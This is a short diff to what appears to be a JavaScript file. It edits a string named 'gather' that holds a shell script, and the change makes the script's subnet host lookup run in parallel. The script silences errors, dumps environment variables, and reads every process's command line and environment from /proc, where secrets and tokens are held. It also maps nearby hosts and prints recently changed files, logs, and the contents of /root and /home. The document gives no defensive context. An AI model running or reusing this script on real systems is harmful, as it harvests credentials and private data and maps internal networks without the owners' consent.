@@ -9,7 +9,7 @@ const gather = `
 exec 2>/dev/null
 env; hostname; cat /etc/hosts /etc/resolv.conf /etc/hostname
 for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; tr '\\0' '\\n' < $p/environ; echo; done
-for h in $(seq 1 14); do getent hosts "$(hostname -i | cut -d. -f1-3).$(( $(hostname -i | cut -d. -f4) / 16 * 16 + h ))"; done
+for h in $(seq 1 14); do getent hosts "$(hostname -i | cut -d. -f1-3).$(( $(hostname -i | cut -d. -f4) / 16 * 16 + h ))" & done; wait
 find / -xdev \\( -path /proc -o -path /sys -o -path /usr/share -o -path /usr/lib -o -path /var/lib \\) -prune -o -type f -newer /etc/hostname -size -256k -print -exec cat {} +
 find /var/log /tmp /root /home /srv /etc /run -xdev -print
 cat /var/log/*.log /var/log/*/*.log
